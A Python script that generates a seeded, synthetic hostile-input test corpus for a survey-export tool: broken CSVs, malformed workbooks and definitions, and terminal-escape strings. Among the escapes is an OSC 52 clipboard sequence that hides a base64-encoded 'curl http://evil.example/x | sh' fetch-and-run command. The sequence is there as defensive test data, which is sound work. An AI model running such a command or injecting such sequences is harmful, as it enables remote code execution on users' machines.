#!/usr/bin/env python3
"""Seeded generator of the hostile-input corpus for wenjuan (issue 8).

ALL DATA WRITTEN BY THIS SCRIPT IS SYNTHETIC.

How to regenerate (from the repository root, Python 3.11, standard library only):

    python3 scripts/make_hostile_corpus.py

It deletes and rewrites tests/fixtures/hostile/ (every run is byte-identical: one seed, fixed
zip timestamps). Commit the result; `cargo test --test hostile_corpus` runs it.

What it writes:

    tests/fixtures/hostile/*.csv|*.xlsx|*.xls|*.toml|*.review.jsonl
        malformed and hostile inputs, each named for what it is:
        csv-*   broken CSV exports            xlsx-*/xls-*  broken workbooks
        def-*   broken questionnaire definitions (next to the valid base export)
        log-*   broken review logs (next to a copy of the base export)
        text-*  exports that carry terminal escape sequences, C1 controls, bidi overrides
        out-*   inputs of the cases where -o names an input or a special file
        base-*  the valid 30-response 问卷星 export, workbook and definition the others build on
        (cases named args-* and out-* run hostile command lines on the base files)
    tests/fixtures/hostile/README.md
        the cases in a table: name, what it is, what every command must do with it
    tests/fixtures/hostile/manifest.json
        every case: the files it copies into a fresh folder (and under which name), links or
        special files to create there, and the runs: which wenjuan commands, with which
        arguments and language, and what each must do:
          expect = "read"    exit 0 or 1 (optionally: `received` responses, `flags` = 序号 that
                             `check` must list, `stderr_names`/`stderr_where` a warning must hold)
          expect = "refuse"  exit 2, stderr holding each group of `names` (one of the
                             alternatives of a group; the file) and of `where` (row/line/column/
                             sheet, looked for in stderr with the case's file names removed)
          expect = "usage"   exit 2 (tui outside a terminal)
          expect = "any"     exit 0, 1 or 2; when 2, `names`/`where` apply
        and what every run must do whatever its expectation: no panic, nothing left behind by a
        refused run, no raw control character on stdout/stderr or in a file written, no input
        changed (a review log may only be appended to, by exclude/include).

Cases marked "large": true are the moderately large ones (a 5,000-column export, a ~400 KB
definition): quadratic work would make them hang. The test only guards against hangs; how fast
wenjuan is gets measured with bench/, never asserted in a test.
"""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
import struct
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

SEED = 0x8057_11E5  # "hostile"
ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "fixtures" / "hostile"
FIXED_ZIP_TIME = (2024, 1, 1, 0, 0, 0)

rng = random.Random(SEED)

# --------------------------------------------------------------------------------------------
# Hostile strings
# --------------------------------------------------------------------------------------------
ESC = "\x1b"
BEL = "\x07"
OSC52 = ESC + "]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==" + BEL  # clipboard: curl … | sh
OSC0 = ESC + "]0;已被篡改" + BEL  # window title
CSI_RED = ESC + "[31m"
CSI_RESET = ESC + "[0m"
CSI_CLEAR = ESC + "[2J" + ESC + "[H"
C1_CSI = "\u009b"  # 8-bit CSI
C1_OSC = "\u009d"  # 8-bit OSC
C1_ST = "\u009c"
RLO = "\u202e"  # right-to-left override
LRI = "\u2066"  # left-to-right isolate
PDI = "\u2069"
LRE = "\u202a"

# --------------------------------------------------------------------------------------------
# The base export: 30 responses of a 问卷星 按文本 download
# --------------------------------------------------------------------------------------------
HEADER = [
    "序号",
    "提交答卷时间",
    "所用时间",
    "来源",
    "来源详情",
    "来自IP",
    "1、您的性别：",
    "2、您对本项目的了解程度：",
    "3、您对以下方面的满意程度—服务质量",
    "3、您对以下方面的满意程度—办事效率",
    "3、您对以下方面的满意程度—信息公开",
    "4、您希望通过哪些渠道获取项目信息？（可多选）",
    "5、您对本项目还有什么意见建议？",
]
COL = {h: i for i, h in enumerate(HEADER)}
AWARE = ["非常了解", "了解一些", "不太了解", "完全不了解"]
SAT = ["非常满意", "满意", "一般", "不满意", "非常不满意", "不清楚"]
CHANNELS = ["政府网站", "微信公众号", "社区宣传栏", "电视广播"]
SUGGESTIONS = ["加强宣传", "增加停车位", "多建口袋公园", "公开实施进度", "优化公交线路"]
N_BASE = 30


def base_rows(n=N_BASE, r=None):
    r = r or random.Random(SEED + 1)
    rows = []
    for i in range(1, n + 1):
        day = 1 + (i * 7) % 28
        t = f"2024/5/{day} {8 + i % 12}:{(i * 13) % 60:02d}:{(i * 29) % 60:02d}"
        aware = r.choices(AWARE, weights=[2, 5, 3, 1])[0]
        if aware == "完全不了解":
            sat = ["(跳过)"] * 3
        else:
            sat = [r.choices(SAT, weights=[4, 6, 2, 1, 0.5, 0.5])[0] for _ in range(3)]
        chosen = sorted(r.sample(range(len(CHANNELS)), r.randint(1, 3)))
        comment = r.choice(SUGGESTIONS) if r.random() < 0.25 else "(空)"
        rows.append(
            [
                str(i),
                t,
                f"{r.randint(70, 400)}秒",
                r.choice(["微信", "链接", "手机提交"]),
                r.choice(["N/A", "直接访问"]),
                f"{r.choice([60, 183, 223])}.{r.randint(1, 254)}.{r.randint(1, 254)}.{r.randint(1, 254)}(山西-阳泉)",
                r.choice(["男", "女"]),
                aware,
                *sat,
                "┋".join(CHANNELS[c] for c in chosen),
                comment,
            ]
        )
    return rows


def csv_text(header, rows, newline="\n"):
    """RFC 4180 as Excel writes it: a field is quoted when it holds a comma, a quote, CR or LF."""

    def field(v: str) -> str:
        if any(c in v for c in ',"\r\n'):
            return '"' + v.replace('"', '""') + '"'
        return v

    return "".join(",".join(field(v) for v in row) + newline for row in [header, *rows])


# --------------------------------------------------------------------------------------------
# XLSX written by hand
# --------------------------------------------------------------------------------------------
def col_name(idx0: int) -> str:
    s = ""
    n = idx0 + 1
    while n:
        n, rem = divmod(n - 1, 26)
        s = chr(65 + rem) + s
    return s


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)


def workbook_xml(sheets):
    body = "".join(
        f'<sheet name="{xml_escape(name, {chr(34): "&quot;"})}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
        for i, name in enumerate(sheets)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<sheets>{body}</sheets></workbook>"
    )


def workbook_rels(n_sheets, shared=True):
    rels = "".join(
        f'<Relationship Id="rId{i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
        for i in range(n_sheets)
    )
    if shared:
        rels += (
            f'<Relationship Id="rId{n_sheets + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
            'Target="sharedStrings.xml"/>'
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rels}</Relationships>"
    )


def inline_cell(ref, text, raw=False):
    t = text if raw else xml_escape(text)
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{t}</t></is></c>'


def sheet_xml(rows, *, dimension=None, extra_cells=(), ref_override=None, raw_text=False):
    """rows: list of lists of str (all written as inline strings, 序号 as a number).

    extra_cells: (row_number, xml) appended to that sheet row (or a new row).
    ref_override: {(r, c): "ref"} to write a different r= attribute for a cell.
    """
    ref_override = ref_override or {}
    out = []
    by_row = {}
    for rn, xml in extra_cells:
        by_row.setdefault(rn, []).append(xml)
    for r_i, row in enumerate(rows):
        rn = r_i + 1
        cells = []
        for c_i, v in enumerate(row):
            ref = ref_override.get((rn, c_i), f"{col_name(c_i)}{rn}")
            if r_i > 0 and c_i == 0 and v.isdigit():
                cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                cells.append(inline_cell(ref, v, raw=raw_text))
        cells.extend(by_row.pop(rn, []))
        out.append(f'<row r="{rn}">{"".join(cells)}</row>')
    for rn in sorted(by_row):
        out.append(f'<row r="{rn}">{"".join(by_row[rn])}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{''.join(out)}</sheetData></worksheet>"
    )


SHARED_EMPTY = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>'
)


def xlsx_bytes(parts: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
    return buf.getvalue()


def workbook(sheet1: str, *, sheets=("Sheet1",), shared=SHARED_EMPTY, drop=()):
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": workbook_xml(sheets),
        "xl/_rels/workbook.xml.rels": workbook_rels(len(sheets)),
        "xl/sharedStrings.xml": shared,
        "xl/worksheets/sheet1.xml": sheet1,
    }
    for d in drop:
        parts.pop(d)
    return xlsx_bytes(parts)


# --------------------------------------------------------------------------------------------
# Definitions
# --------------------------------------------------------------------------------------------
def base_definition(files=("e.csv",), *, window=True, floor=None, size=None, extra=""):
    pop_size = f"size = {size}\n" if size is not None else ""
    val = "[validity]\n"
    if window:
        val += '[validity.out_of_window]\nstart = "2024-05-01"\nend = "2024-05-31"\n'
    if floor is not None:
        val += f"[validity.speeder]\nfloor = {floor}\n"
    return f'''# SYNTHETIC: the definition of the hostile corpus's base export (scripts/make_hostile_corpus.py).
title = "hostile corpus"

[[population]]
id = "public"
name = "社会公众"
{pop_size}files = [{", ".join(json.dumps(f, ensure_ascii=False) for f in files)}]

[[question]]
id = "gender"
number = 1
options = ["男", "女"]

[[question]]
id = "awareness"
number = 2
scale = "awareness"

[[question]]
id = "service"
number = 3
item = "服务质量"
scale = "sat6"

[[question]]
id = "efficiency"
number = 3
item = "办事效率"
scale = "sat6"

[[question]]
id = "openness"
number = 3
item = "信息公开"
scale = "sat6"

[[question]]
id = "channels"
number = 4
kind = "multiple"
options = ["政府网站", "微信公众号", "社区宣传栏", "电视广播"]

[[question]]
id = "comments"
number = 5
kind = "text"

[[scale]]
id = "sat6"
name = "满意度"
levels = [
  {{ label = "非常满意", score = 100, positive = true }},
  {{ label = "满意", score = 80, positive = true }},
  {{ label = "一般", score = 60 }},
  {{ label = "不满意", score = 40 }},
  {{ label = "非常不满意", score = 20 }},
]
not_applicable = ["不清楚"]

{val}
[[group]]
id = "source"
name = "来源"
meta = "来源"

[[indicator]]
id = "public_satisfaction"
name = "社会公众满意度"
population = "public"
questions = ["service", "efficiency", "openness"]
target = "90%"
points = 8
rule = "proportional"
{extra}'''


def line_of(text: str, needle: str) -> int:
    for i, line in enumerate(text.split("\n"), 1):
        if needle in line:
            return i
    raise KeyError(needle)


def key_lines(text: str, needle: str) -> list[int]:
    """The line of the key that is wrong, and the line of the [table] header it belongs to: a
    message may name either."""
    k = line_of(text, needle)
    lines = text.split("\n")
    for i in range(k - 1, -1, -1):
        if lines[i].lstrip().startswith("["):
            return [k, i + 1]
    return [k]


# --------------------------------------------------------------------------------------------
# Expectation helpers (the alternatives a message may use, in English and Chinese)
# --------------------------------------------------------------------------------------------
def at_row(n):
    return [f"row {n}", f"第 {n} 行", f"第{n}行"]


def at_line(n):
    return [f"line {n}", f"第 {n} 行", f"第{n}行"]


def named(*alts):
    return [list(alts)]


def step(args, expect, lang="en", **kw):
    s = {"args": list(args), "lang": lang, "expect": expect}
    s.update({k: v for k, v in kw.items() if v is not None})
    return s


def run(rid, *steps):
    return {"id": rid, "steps": list(steps)}


def battery(
    inputs,
    expect,
    *,
    names=None,
    where=None,
    received=None,
    flags=None,
    stderr_names=None,
    stderr_where=None,
    export=None,
    has_def=False,
    zh=True,
    light=False,
):
    """The standard runs over one input: every subcommand that reads an export or a definition.

    inputs: the input arguments (["e.csv"] or ["--survey", "d.toml"]).
    export: the export file itself, for init/exclude/include (None: they are not run).
    light: only summarize, check and init (the large cases).
    """
    kw = dict(names=names, where=where)
    warn = dict(stderr_names=stderr_names, stderr_where=stderr_where) if expect == "read" else {}
    got = dict(received=received) if expect == "read" else dict(received_if_read=received)
    runs = [
        run("summarize", step(["summarize", *inputs], expect, **got, **warn, **kw)),
        run("check", step(["check", *inputs], expect, flags=flags, **warn, **kw)),
    ]
    if export:
        runs.append(run("init", step(["init", export], expect, **kw)))
    if light:
        return runs
    runs += [
        run("summarize-json", step(["summarize", *inputs, "--format", "json"], expect, **kw)),
        run("summarize-md", step(["summarize", *inputs, "--format", "md"], expect, **kw)),
        run("summarize-o", step(["summarize", *inputs, "-o", "out.csv"], expect, **kw)),
        run("compare-by", step(["compare", *inputs, "--by", "来源"], expect, **kw)),
        run("report", step(["report", *inputs, "-o", "rep"], expect, **kw)),
        run("tui", step(["tui", *inputs], "usage")),
    ]
    if has_def:
        runs.append(run("indicators", step(["indicators", *inputs], expect, **kw)))
    if zh:
        runs += [
            run("summarize-zh", step(["summarize", *inputs, "--format", "md"], expect, lang="zh", **kw)),
            run("check-zh", step(["check", *inputs], expect, lang="zh", **kw)),
        ]
    if export:
        log = export + ".review.jsonl"
        runs += [
            run("init-o-zh", step(["init", export, "-o", "init.toml"], expect, lang="zh", **kw)),
            run(
                "exclude-include",
                step(["exclude", export, "--row", "1", "--reason", "电话回访"], expect, appends=[log], **kw),
                step(["include", export, "--row", "1", "--reason", "核实无误"], expect, lang="zh", appends=[log], **kw),
            ),
        ]
    return runs


# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------
files: dict[str, bytes] = {}
cases: list[dict] = []


def put(name, data):
    assert name not in files, name
    files[name] = data.encode("utf-8") if isinstance(data, str) else data
    return name


def case(name, what, inputs, runs, setup=None, large=False):
    """inputs: list of corpus file names, or (corpus name, name in the case folder) pairs."""
    fl = []
    for i in inputs:
        src, dst = (i, i) if isinstance(i, str) else i
        assert src in files, src
        fl.append({"src": src, "as": dst})
    c = {"name": name, "what": what, "files": fl, "runs": runs}
    if setup:
        c["setup"] = setup
    if large:
        c["large"] = True
    cases.append(c)


ROWS = base_rows()
BASE_CSV = put("base-wjx-30.csv", csv_text(HEADER, ROWS))
BASE_XLSX = put("base-wjx-30.xlsx", workbook(sheet_xml([HEADER] + ROWS)))
BASE_DEF = put("base-definition.toml", base_definition())

case(
    "base-valid",
    "control: the valid 30-response export and its definition, read by every command",
    [(BASE_CSV, "e.csv"), (BASE_DEF, "d.toml")],
    battery(["e.csv"], "read", received=30, export="e.csv")
    + [run("with-definition", step(["summarize", "--survey", "d.toml"], "read", received=30))]
    + [run("indicators-def", step(["indicators", "--survey", "d.toml"], "read"))],
)

# ---- CSV ------------------------------------------------------------------------------------
lines = csv_text(HEADER, ROWS).split("\n")
# data row 12 is line 13: its free-text answer opens a quote that never closes
row12 = lines[12].split(",")
row12[-1] = '"他说：好的，然后'
lines_uq = lines.copy()
lines_uq[12] = ",".join(row12)
put("csv-unterminated-quote.csv", "\n".join(lines_uq))
case(
    "csv-unterminated-quote",
    "30 responses; data row 12 (line 13) opens a quote in its last field that never closes",
    ["csv-unterminated-quote.csv"],
    battery(
        ["csv-unterminated-quote.csv"],
        "any",
        names=named("csv-unterminated-quote.csv"),
        where=[at_line(13) + at_row(12)],
        received=30,
        export="csv-unterminated-quote.csv",
    ),
)

lines_rg = lines.copy()
lines_rg[7] = ",".join(lines[7].split(",")[:-1])  # data row 7 lacks its last field
lines_rg[9] = lines[9] + ",多余字段"  # data row 9 has one field too many
put("csv-ragged-rows.csv", "\n".join(lines_rg))
case(
    "csv-ragged-rows",
    "data row 7 has 12 fields, data row 9 has 14; the header has 13",
    ["csv-ragged-rows.csv"],
    battery(
        ["csv-ragged-rows.csv"],
        "refuse",
        names=named("csv-ragged-rows.csv"),
        where=[at_row(7) + at_line(8)],
        export="csv-ragged-rows.csv",
    ),
)

bad = csv_text(HEADER, ROWS).encode("utf-8").split(b"\n")
bad[15] = bad[15].replace("(空)".encode(), b"\xff\xfe\xe5\xbb\xba") if "(空)".encode() in bad[15] else bad[15] + b"\xff\xfe"
put("csv-invalid-utf8-row15.csv", b"\n".join(bad))
case(
    "csv-invalid-utf8-row15",
    "UTF-8 export whose data row 15 (line 16) holds the bytes FF FE, valid in neither UTF-8 nor GB18030",
    ["csv-invalid-utf8-row15.csv"],
    battery(
        ["csv-invalid-utf8-row15.csv"],
        "refuse",
        names=named("csv-invalid-utf8-row15.csv"),
        where=[at_row(15) + at_line(16)],
        export="csv-invalid-utf8-row15.csv",
        light=True,
    )
    + [
        run(
            "summarize-forced-utf8",
            step(
                ["summarize", "csv-invalid-utf8-row15.csv", "--encoding", "utf-8"],
                "refuse",
                names=named("csv-invalid-utf8-row15.csv"),
                where=[at_row(15) + at_line(16)],
            ),
        )
    ],
)

put("csv-bom-then-gbk.csv", b"\xef\xbb\xbf" + csv_text(HEADER, ROWS, "\r\n").encode("gbk"))
case(
    "csv-bom-then-gbk",
    "a UTF-8 byte-order mark followed by GBK text (an editor added the BOM); read as GBK or refused saying the BOM lies",
    ["csv-bom-then-gbk.csv"],
    battery(
        ["csv-bom-then-gbk.csv"],
        "any",
        names=named("csv-bom-then-gbk.csv"),
        where=[["BOM", "byte order mark", "byte-order mark", "字节顺序标记"]],
        received=30,
        export="csv-bom-then-gbk.csv",
        light=True,
    ),
)

put("csv-empty.csv", b"")
case(
    "csv-empty",
    "a 0-byte export",
    ["csv-empty.csv"],
    battery(["csv-empty.csv"], "refuse", names=named("csv-empty.csv"), export="csv-empty.csv", light=True),
)

put("csv-header-only.csv", csv_text(HEADER, []))
case(
    "csv-header-only",
    "the header and no response: read (received 0) or refused naming the file",
    ["csv-header-only.csv"],
    battery(["csv-header-only.csv"], "any", names=named("csv-header-only.csv"), export="csv-header-only.csv"),
)

nul_rows = [r.copy() for r in ROWS]
nul_rows[4][COL["5、您对本项目还有什么意见建议？"]] = "建议\x00增加"
put("csv-nul-in-cell.csv", csv_text(HEADER, nul_rows))
case(
    "csv-nul-in-cell",
    "a NUL byte inside data row 5's free-text answer",
    ["csv-nul-in-cell.csv"],
    battery(["csv-nul-in-cell.csv"], "any", names=named("csv-nul-in-cell.csv"), export="csv-nul-in-cell.csv", light=True),
)

dup_header = HEADER.copy()
dup_header[COL["3、您对以下方面的满意程度—办事效率"]] = HEADER[COL["3、您对以下方面的满意程度—服务质量"]]
put("csv-duplicate-header.csv", csv_text(dup_header, ROWS))
case(
    "csv-duplicate-header",
    "two columns with the same header (3、…—服务质量 twice)",
    ["csv-duplicate-header.csv"],
    battery(["csv-duplicate-header.csv"], "any", names=named("csv-duplicate-header.csv"), export="csv-duplicate-header.csv"),
)

put("csv-cr-only-line-endings.csv", csv_text(HEADER, ROWS, "\r"))
case(
    "csv-cr-only-line-endings",
    "classic-Mac line endings: CR only, no LF",
    ["csv-cr-only-line-endings.csv"],
    battery(
        ["csv-cr-only-line-endings.csv"],
        "any",
        names=named("csv-cr-only-line-endings.csv"),
        export="csv-cr-only-line-endings.csv",
        light=True,
    ),
)

nl_rows = [r.copy() for r in ROWS]
for k in (2, 8, 16, 23, 29):
    nl_rows[k][COL["5、您对本项目还有什么意见建议？"]] = "两点建议：\n1.增加停车位\r\n2.多建公园"
put("csv-embedded-newlines.csv", csv_text(HEADER, nl_rows))
case(
    "csv-embedded-newlines",
    "30 responses, five with quoted multi-line answers (LF and CRLF inside quotes)",
    ["csv-embedded-newlines.csv"],
    battery(["csv-embedded-newlines.csv"], "read", received=30, export="csv-embedded-newlines.csv"),
)

put("csv-blank-lines.csv", csv_text(HEADER, ROWS).replace("\n", "\n\n", 10))
case(
    "csv-blank-lines",
    "30 responses with blank lines between the first rows",
    ["csv-blank-lines.csv"],
    battery(["csv-blank-lines.csv"], "read", received=30, export="csv-blank-lines.csv", light=True),
)

bq = lines.copy()
r6 = ROWS[5].copy()
r6[COL["5、您对本项目还有什么意见建议？"]] = '建议设"规划公示栏'
bq[6] = ",".join(r6)  # written without quoting: a bare quote inside an unquoted field
put("csv-bare-quote-mid-field.csv", "\n".join(bq))
case(
    "csv-bare-quote-mid-field",
    'data row 6 has an unquoted field with one bare " in the middle (RFC 4180 violation Excel tolerates)',
    ["csv-bare-quote-mid-field.csv"],
    battery(
        ["csv-bare-quote-mid-field.csv"],
        "any",
        names=named("csv-bare-quote-mid-field.csv"),
        where=[at_row(6) + at_line(7)],
        received=30,
        export="csv-bare-quote-mid-field.csv",
        light=True,
    ),
)

put("csv-semicolon-separated.csv", csv_text(HEADER, ROWS).replace(",", ";"))
case(
    "csv-semicolon-separated",
    "a European-Excel export: fields separated by ';'",
    ["csv-semicolon-separated.csv"],
    battery(["csv-semicolon-separated.csv"], "any", names=named("csv-semicolon-separated.csv"), export="csv-semicolon-separated.csv", light=True),
)

BAD_TIMES = {5: "2024/13/45 25:61:99", 9: "2024-02-30 10:00:00", 14: "0000/00/00 00:00:00", 21: "昨天下午"}
bt_rows = [r.copy() for r in ROWS]
for sn, t in BAD_TIMES.items():
    bt_rows[sn - 1][1] = t
put("csv-unreadable-submit-times.csv", csv_text(HEADER, bt_rows))
put("csv-unreadable-submit-times.toml", base_definition(files=("csv-unreadable-submit-times.csv",)))
case(
    "csv-unreadable-submit-times",
    "序号 5, 9, 14, 21 have unreadable 提交答卷时间 (2024/13/45 25:61:99, 2024-02-30, 0000/00/00, 昨天下午); "
    "the definition declares a fieldwork window: check must list each of them",
    ["csv-unreadable-submit-times.csv", "csv-unreadable-submit-times.toml"],
    battery(
        ["--survey", "csv-unreadable-submit-times.toml"],
        "read",
        flags=[str(k) for k in BAD_TIMES],
        has_def=True,
        zh=False,
    ),
)

BAD_DUR = {7: "-30秒", 18: "abc秒"}
bd_rows = [r.copy() for r in ROWS]
for sn, d in BAD_DUR.items():
    bd_rows[sn - 1][2] = d
put("csv-unreadable-durations.csv", csv_text(HEADER, bd_rows))
put("csv-unreadable-durations.toml", base_definition(files=("csv-unreadable-durations.csv",), floor=30))
case(
    "csv-unreadable-durations",
    "序号 7 took '-30秒' and 序号 18 'abc秒'; the definition sets a speeder floor of 30 s: check must list both",
    ["csv-unreadable-durations.csv", "csv-unreadable-durations.toml"],
    battery(
        ["--survey", "csv-unreadable-durations.toml"],
        "read",
        flags=[str(k) for k in BAD_DUR],
        has_def=True,
        zh=False,
    ),
)

# ---- moderately large (marked) ----
WIDE_Q = 4994
wide_header = HEADER[:6] + [f"{k}、第{k}题是否同意？" for k in range(1, WIDE_Q + 1)]
wr = random.Random(SEED + 2)
wide_rows = [ROWS[i][:6] + [wr.choice(["是", "否"]) for _ in range(WIDE_Q)] for i in range(8)]
put("csv-5000-columns.csv", csv_text(wide_header, wide_rows))
case(
    "csv-5000-columns",
    "LARGE (moderate): a 5,000-column export (6 metadata + 4,994 yes/no questions), 8 responses; "
    "each command must finish in a few seconds",
    ["csv-5000-columns.csv"],
    battery(["csv-5000-columns.csv"], "read", received=8, export="csv-5000-columns.csv", light=True),
    large=True,
)

# ---- XLSX -----------------------------------------------------------------------------------
put(
    "xlsx-cell-ref-row-zero.xlsx",
    workbook(sheet_xml([HEADER] + ROWS, ref_override={(3, 2): "C0"})),
)
case(
    "xlsx-cell-ref-row-zero",
    "a worksheet cell whose reference is C0 (row 0 does not exist)",
    ["xlsx-cell-ref-row-zero.xlsx"],
    battery(
        ["xlsx-cell-ref-row-zero.xlsx"],
        "any",
        names=named("xlsx-cell-ref-row-zero.xlsx"),
        where=[["Sheet1"]],
        export="xlsx-cell-ref-row-zero.xlsx",
        light=True,
    ),
)

put(
    "xlsx-cell-ref-garbage.xlsx",
    workbook(sheet_xml([HEADER] + ROWS, ref_override={(4, 3): "3D!"})),
)
case(
    "xlsx-cell-ref-garbage",
    "a worksheet cell whose reference is '3D!'",
    ["xlsx-cell-ref-garbage.xlsx"],
    battery(
        ["xlsx-cell-ref-garbage.xlsx"],
        "any",
        names=named("xlsx-cell-ref-garbage.xlsx"),
        where=[["Sheet1"]],
        export="xlsx-cell-ref-garbage.xlsx",
        light=True,
    ),
)

put(
    "xlsx-cell-ref-column-overflow.xlsx",
    workbook(sheet_xml([HEADER] + ROWS, ref_override={(5, 1): "ZZZZZZZZZZZZZZZZZZZZ5"})),
)
case(
    "xlsx-cell-ref-column-overflow",
    "a worksheet cell whose column has 20 letters (overflows any column number)",
    ["xlsx-cell-ref-column-overflow.xlsx"],
    battery(
        ["xlsx-cell-ref-column-overflow.xlsx"],
        "any",
        names=named("xlsx-cell-ref-column-overflow.xlsx"),
        where=[["Sheet1"]],
        export="xlsx-cell-ref-column-overflow.xlsx",
        light=True,
    ),
)

put(
    "xlsx-dimension-reversed.xlsx",
    workbook(sheet_xml([HEADER] + ROWS, dimension="M31:A1")),
)
case(
    "xlsx-dimension-reversed",
    "the base export whose <dimension> runs backwards, M31:A1",
    ["xlsx-dimension-reversed.xlsx"],
    battery(
        ["xlsx-dimension-reversed.xlsx"],
        "any",
        names=named("xlsx-dimension-reversed.xlsx"),
        where=[["Sheet1"]],
        export="xlsx-dimension-reversed.xlsx",
        light=True,
    ),
)

put(
    "xlsx-cell-XFD1048576.xlsx",
    workbook(sheet_xml([HEADER] + ROWS, extra_cells=[(1048576, inline_cell("XFD1048576", "x"))])),
)
case(
    "xlsx-cell-XFD1048576",
    "the base export plus one value in the last cell a sheet can have, XFD1048576",
    ["xlsx-cell-XFD1048576.xlsx"],
    battery(
        ["xlsx-cell-XFD1048576.xlsx"],
        "any",
        names=named("xlsx-cell-XFD1048576.xlsx"),
        where=[["Sheet1"]],
        export="xlsx-cell-XFD1048576.xlsx",
        light=True,
    ),
)

put(
    "xlsx-dimension-XFD1048576.xlsx",
    workbook(sheet_xml([HEADER] + ROWS, dimension="A1:XFD1048576")),
)
case(
    "xlsx-dimension-XFD1048576",
    "the base export whose <dimension> claims A1:XFD1048576",
    ["xlsx-dimension-XFD1048576.xlsx"],
    battery(
        ["xlsx-dimension-XFD1048576.xlsx"],
        "any",
        names=named("xlsx-dimension-XFD1048576.xlsx"),
        where=[["Sheet1"]],
        export="xlsx-dimension-XFD1048576.xlsx",
        light=True,
    ),
)

put("xlsx-not-a-zip.xlsx", csv_text(HEADER, ROWS[:3]))
case(
    "xlsx-not-a-zip",
    "CSV text saved with an .xlsx name",
    ["xlsx-not-a-zip.xlsx"],
    battery(["xlsx-not-a-zip.xlsx"], "any", names=named("xlsx-not-a-zip.xlsx"), export="xlsx-not-a-zip.xlsx", light=True),
)

full = files[BASE_XLSX]
put("xlsx-truncated.xlsx", full[: len(full) * 2 // 3])
case(
    "xlsx-truncated",
    "the base workbook cut at two thirds (a download that stopped)",
    ["xlsx-truncated.xlsx"],
    battery(["xlsx-truncated.xlsx"], "refuse", names=named("xlsx-truncated.xlsx"), export="xlsx-truncated.xlsx", light=True),
)


def ole2(r: random.Random) -> bytes:
    head = bytearray(512)
    head[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", head, 44, 1)  # one FAT sector
    struct.pack_into("<I", head, 48, 0)  # directory starts at sector 0
    struct.pack_into("<I", head, 56, 4096)
    struct.pack_into("<I", head, 60, 0xFFFFFFFE)
    struct.pack_into("<I", head, 68, 0xFFFFFFFE)
    struct.pack_into("<I", head, 76, 1)  # DIFAT[0] = sector 1
    for i in range(80, 512, 4):
        struct.pack_into("<I", head, i, 0xFFFFFFFF)
    return bytes(head) + bytes(r.getrandbits(8) for _ in range(3584))


put("xlsx-really-ole2-xls.xlsx", ole2(random.Random(SEED + 3)))
case(
    "xlsx-really-ole2-xls",
    "an old binary .xls (OLE2 compound file) renamed .xlsx: the message must say what it is, not 'zip'",
    ["xlsx-really-ole2-xls.xlsx"],
    battery(
        ["xlsx-really-ole2-xls.xlsx"],
        "refuse",
        names=named("xlsx-really-ole2-xls.xlsx"),
        where=[[".xls", "xls ", "XLS", "Excel 97", "OLE", "BIFF", "旧版"]],
        export="xlsx-really-ole2-xls.xlsx",
        light=True,
    ),
)

put("xls-ole2-garbage.xls", ole2(random.Random(SEED + 4)))
case(
    "xls-ole2-garbage",
    "a .xls with a valid OLE2 header and random sectors",
    ["xls-ole2-garbage.xls"],
    battery(["xls-ole2-garbage.xls"], "refuse", names=named("xls-ole2-garbage.xls"), export="xls-ole2-garbage.xls", light=True),
)

sst = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>男</t></si></sst>'
)
